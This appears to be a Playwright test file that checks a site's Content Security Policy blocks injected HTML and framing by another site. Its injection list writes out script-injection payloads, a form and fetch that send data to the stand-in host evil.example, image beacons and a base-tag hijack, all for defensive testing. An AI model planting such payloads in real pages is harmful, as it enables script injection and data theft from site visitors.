import type { Page } from 'playwright/test';
import { appUrl } from '../support/addresses';
import { expect, test } from '../support/fixtures';
import { scriptHash, withOwnScript } from '../support/script-hash';

const foreign = 'https://evil.example';
const guess = 'AAAAAAAAAAAAAAAAAAAAAA==';

interface Injection {
  name: string;
  /** What somebody got into the page. */
  html: string;
  /** The text of a script in it that does what somebody wants although it is one of ours. */
  ours?: string;
  /** The rule that stops it. */
  directive: string;
  /** The rule as a weaker policy would have it. */
  weaker: string;
  /** Whether it is clicked on. */
  click?: boolean;
  /** Whether it had its way, where that is neither a request to the foreign host nor `window.ran`. */
  succeeded?: () => boolean;
}

const evalScript = 'try { eval("window.ran = true") } catch {}';
const tellScript = `fetch("${foreign}/tell", { mode: "no-cors" }).catch(() => {})`;

const injections: Injection[] = [
  {
    name: 'an inline script',
    html: '<script>window.ran = true</script>',
    directive: 'script-src-elem',
    weaker: "script-src 'self' 'unsafe-inline'",
  },
  {
    name: 'a script with a nonce',
    html: `<script nonce="${guess}">window.ran = true</script>`,
    directive: 'script-src-elem',
    weaker: `script-src 'nonce-${guess}' 'strict-dynamic'`,
  },
  {
    name: 'an event handler',
    html: '<img src="/favicon.svg" alt="" onload="window.ran = true">',
    directive: 'script-src-attr',
    weaker: "script-src 'self' 'unsafe-inline'",
  },
  {
    name: 'a javascript: address',
    html: '<a id="bait" href="javascript:void(window.ran = true)">Go</a>',
    directive: 'script-src-elem',
    weaker: "script-src 'self' 'unsafe-inline'",
    click: true,
  },
  {
    name: 'a script in a data: address',
    html: '<script src="data:text/javascript,window.ran = true"></script>',
    directive: 'script-src-elem',
    weaker: "script-src 'self' data:",
  },
  {
    name: 'a script of a foreign host',
    html: `<script src="${foreign}/script.js"></script>`,
    directive: 'script-src-elem',
    weaker: "script-src 'self' https:",
  },
  {
    name: 'a script that somebody could place on this host',
    html: '<script src="/uploaded.js"></script>',
    directive: 'script-src-elem',
    weaker: "script-src 'self'",
  },
  {
    name: 'text that our own script takes for code',
    html: `<script>${evalScript}</script>`,
    ours: evalScript,
    directive: 'script-src',
    weaker: `script-src '${scriptHash(evalScript)}' 'strict-dynamic' 'unsafe-eval'`,
  },
  {
    name: 'a style that reads the page',
    html: `<style>body { background: url("${foreign}/read") }</style>`,
    directive: 'style-src-elem',
    weaker: "style-src 'self' 'unsafe-inline'; img-src *",
  },
  {
    name: 'another base for every link',
    html: `<base href="${foreign}/">`,
    directive: 'base-uri',
    weaker: 'base-uri *',
    succeeded: () => new URL(document.baseURI).hostname === 'evil.example',
  },
  {
    name: 'a form to another site',
    html: `<form method="post" action="${foreign}/take"><button id="bait">Send</button></form>`,
    directive: 'form-action',
    weaker: 'form-action *',
    click: true,
  },
  {
    name: 'an object',
    html: `<object data="${foreign}/object.html" type="text/html"></object>`,
    directive: 'object-src',
    weaker: 'object-src *; frame-src *',
  },
  {
    name: 'a frame of a foreign host',
    html: `<iframe src="${foreign}/frame"></iframe>`,
    directive: 'frame-src',
    weaker: 'frame-src *',
  },
  {
    name: 'a picture that tells a foreign host',
    html: `<img src="${foreign}/tell?what" alt="">`,
    directive: 'img-src',
    weaker: 'img-src *',
  },
  {
    name: 'a message of a script to a foreign host',
    html: `<script>${tellScript}</script>`,
    ours: tellScript,
    directive: 'connect-src',
    weaker: 'connect-src *',
  },
];

declare global {
  interface Window {
    ran?: boolean;
  }
}

/** The policy with one of its rules (or more, separated by semicolons) as a weaker one has it. */
function weakened(policy: string, weaker: string): string {
  const rules = new Map(policy.split('; ').map((rule) => [rule.split(' ')[0], rule]));
  for (const rule of weaker.split('; ')) rules.set(rule.split(' ')[0], rule);
  return [...rules.values()].join('; ');
}

/**
 * Serves a page as the site does, without its scripts but with the injection, under its own policy or
 * a weaker one. The foreign host answers, and is heard.
 */
async function openInjected(
  page: Page,
  { html, ours, click, succeeded }: Injection,
  weaker: string | undefined,
): Promise<() => Promise<{ violated: string[]; hadItsWay: boolean }>> {
  const heard: string[] = [];
  await page.route(`${foreign}/**`, (route) => {
    heard.push(route.request().url());
    const isScript = route.request().resourceType() === 'script';
    return route.fulfill({
      contentType: isScript ? 'text/javascript' : 'text/html',
      body: isScript ? 'window.ran = true' : '<title>Foreign</title>',
    });
  });
  await page.route(`${appUrl}/uploaded.js`, (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'window.ran = true' }),
  );
  await page.route(`${appUrl}/about`, async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    const sent = headers['content-security-policy'] ?? '';
    const policy = ours === undefined ? sent : withOwnScript(sent, ours);
    const body = (await response.text())
      .replace(/<script\b[\s\S]*?<\/script>/g, '')
      .replace('</main>', `${html}</main>`);
    const used = weaker === undefined ? policy : weakened(policy, weaker);
    await route.fulfill({
      response,
      headers: { ...headers, 'content-security-policy': used },
      body,
    });
  });
  const violated: string[] = [];
  // Told by the fixtures' listener: a page whose form was stopped can no longer be asked.
  page.on('console', (message) => {
    const directive = /^Policy violation: (\S+)/.exec(message.text())?.[1];
    if (directive !== undefined) violated.push(directive);
  });
  const ran = () => page.evaluate(() => window.ran === true);
  await page.goto('/about');
  // A stopped form leaves a navigation that never comes; it is not waited for.
  if (click) await page.locator('#bait').click({ noWaitAfter: true });
  return async () => {
    if (succeeded) return { violated, hadItsWay: await page.evaluate(succeeded) };
    return { violated, hadItsWay: html.includes(foreign) ? heard.length > 0 : await ran() };
  };
}

for (const injection of injections) {
  test.describe(injection.name, () => {
    test(`is stopped by ${injection.directive}`, async ({ page, allow }) => {
      allow(/Policy violation|Content Security Policy/);
      const outcome = await openInjected(page, injection, undefined);
      await expect
        .poll(outcome)
        .toEqual({ violated: expect.arrayContaining([injection.directive]), hadItsWay: false });
    });

    test(`would have had its way under ${injection.weaker}`, async ({ page, allow }) => {
      // With another base, the page's own pictures are asked of the foreign host.
      allow(/evil\.example/);
      const outcome = await openInjected(page, injection, injection.weaker);
      await expect
        .poll(outcome)
        .toEqual({ violated: expect.not.arrayContaining([injection.directive]), hadItsWay: true });
    });
  });
}

test.describe('a page in a frame of another site', () => {
  async function frameText(page: Page, change: (headers: Record<string, string>) => void) {
    await page.route(`${foreign}/`, (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<title>Foreign</title><iframe src="${appUrl}/about"></iframe>`,
      }),
    );
    await page.route(`${appUrl}/about`, async (route) => {
      const response = await route.fetch();
      const headers = response.headers();
      change(headers);
      const body = (await response.text()).replace(/<script\b[\s\S]*?<\/script>/g, '');
      await route.fulfill({ response, headers, body });
    });
    await page.goto(`${foreign}/`);
    return page.frameLocator('iframe').getByRole('heading', { level: 1 });
  }

  for (const [name, remaining] of [
    ['the policy', 'content-security-policy'],
    ['the older header', 'x-frame-options'],
  ] as const) {
    test(`is stopped by ${name} alone`, async ({ page, allow }) => {
      allow(/Policy violation|Content Security Policy|X-Frame-Options/i);
      const refused = page.waitForEvent('console', (message) => message.type() === 'error');
      const heading = await frameText(page, (headers) => {
        for (const header of ['content-security-policy', 'x-frame-options']) {
          if (header !== remaining) delete headers[header];
        }
      });
      await refused;
      await expect(heading).toHaveCount(0);
    });
  }

  test('would have been shown without either', async ({ page }) => {
    const heading = await frameText(page, (headers) => {
      delete headers['content-security-policy'];
      delete headers['x-frame-options'];
    });
    await expect(heading).toBeVisible();
  });
});
